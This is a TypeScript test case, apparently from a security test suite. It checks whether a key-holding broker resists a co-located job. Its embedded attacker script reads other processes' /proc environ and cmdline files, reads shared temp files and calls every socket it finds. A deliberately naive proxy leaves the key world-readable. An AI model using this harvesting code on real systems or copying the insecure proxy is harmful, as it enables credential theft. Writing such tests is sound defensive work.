import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { startBroker } from '../../../src/adapters/broker/start-broker.ts';
import { redactor } from '../../../src/adapters/output/redact.ts';
import { openPlace } from '../../../src/main/place.ts';
import { settingsFor } from '../../broker/broker-process.ts';
import { DIST } from '../../dist.ts';
import { descendantsOf } from '../../emulators/runner/processes.ts';
import { type HostileCase, judge } from '../case.ts';
import { startModel } from '../kit/model.ts';
import type { Place } from '../kit/place.ts';

/** Of another job on the machine, when this one runs as root. */
const OTHER = 59_419;

/** Reads whatever the other job shows of itself, and talks to every socket that it finds. */
const BESIDE = `
const [user, base, ...pids] = process.argv.slice(1);
if (process.getuid() === 0) { process.setgroups([]); process.setgid(Number(user)); process.setuid(Number(user)); }
const fs = require('node:fs');
const cat = (path) => { try { process.stdout.write(fs.readFileSync(path, 'latin1') + '\\n'); } catch {} };
for (const pid of pids) for (const name of ['environ', 'cmdline']) cat('/proc/' + pid + '/' + name);
const body = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'x' }], stream: true, tools: [] });
const headers = { 'content-type': 'application/json', authorization: 'Bearer none' };
const visit = (folder) => {
  let names = [];
  try { names = fs.readdirSync(folder); } catch {}
  for (const name of names) {
    const path = folder + '/' + name;
    try {
      if (fs.statSync(path).isDirectory()) visit(path);
      else if (fs.statSync(path).isSocket()) {
        const options = { socketPath: path, path: '/v1/chat/completions', method: 'POST', headers };
        require('node:http').request(options, (answer) => answer.pipe(process.stdout)).on('error', () => 0).end(body);
      } else cat(path);
    } catch {}
  }
};
visit(base);
console.log('looked');
`;

/** A proxy as it is written for one machine and one job. */
const NAIVE = `
const [, socket, upstream] = process.argv;
const http = require('node:http');
http.createServer(async (request, response) => {
  let body = '';
  for await (const chunk of request) body += chunk;
  const headers = { 'content-type': 'application/json', authorization: 'Bearer ' + process.env.KEY };
  const answer = await fetch(upstream + request.url, { method: 'POST', headers, body });
  response.end(await answer.text());
}).listen(socket);
`;

export const hostile: HostileCase = {
  number: 124,
  title: 'Another job on the same machine at the same time takes the key, or spends it',
  area: 'supply-chain',
  lanes: ['userns', 'root'],
  async attack(place, defence) {
    const key = place.secret('the key');
    const model = await startModel(place);
    // Where every user of the machine may look, as for a runner's own directories.
    const base = mkdtempSync('/tmp/h-beside-');
    place.after(() => rmSync(base, { recursive: true, force: true }));
    chmodSync(base, 0o755);
    const start = defence === 'off' ? naiveProxy : gateBroker;
    const pids = await start(place, { base, key, url: model.url });
    const out = await lookFrom(base, pids);
    return judge(defence, {
      'what it shows': place.scan({ out }).length > 0 ? 'has the key' : null,
      'its socket': model.requests.length > 0 ? 'was used' : null,
    });
  },
};

type Start = { readonly base: string; readonly key: string; readonly url: string };

async function naiveProxy(place: Place, { base, key, url }: Start): Promise<readonly number[]> {
  const socket = join(base, 'proxy.sock');
  writeFileSync(join(base, 'proxy.json'), JSON.stringify({ key }));
  const child = spawn(process.execPath, ['-e', NAIVE, socket, url], { env: { KEY: key }, stdio: 'ignore' });
  place.after(() => child.kill('SIGKILL'));
  for (let tries = 0; !existsSync(socket) && tries < 400; tries += 1) await sleep(25);
  chmodSync(socket, 0o777);
  return [child.pid ?? 0];
}

/** Where and how the Action starts it. */
async function gateBroker(place: Place, { base, key, url }: Start): Promise<readonly number[]> {
  const { state, trail } = openPlace({ RUNNER_TEMP: base }, redactor([key]));
  place.after(() => trail.close());
  const { socket: _socket, token: _token, ...settings } = settingsFor(`${url}/v1`, { key });
  const broker = await startBroker({
    bundle: join(DIST, 'broker', 'index.js'),
    node: process.execPath,
    directory: mkdtempSync(join(state, 'review-')),
    settings,
    trail: { record: () => undefined },
  });
  place.after(() => broker.close());
  const below = descendantsOf(process.pid).map(({ pid }) => pid);
  const pids = below.filter((pid) => readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes('broker'));
  if (pids.length !== 1) throw new Error('The broker was not found.');
  return pids;
}

function lookFrom(base: string, pids: readonly number[]): Promise<string> {
  const args = ['-e', BESIDE, String(OTHER), base, ...pids.map(String)];
  const child = spawn(process.execPath, args, { cwd: '/', env: {}, stdio: ['ignore', 'pipe', 'inherit'] });
  const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
  let out = '';
  child.stdout.setEncoding('utf8').on('data', (text: string) => (out += text));
  return new Promise((resolve, reject) => {
    child.once('error', reject).once('close', () => {
      clearTimeout(timer);
      if (out.includes('looked')) resolve(out);
      else reject(new Error(`It did not run: ${out}`));
    });
  });
}
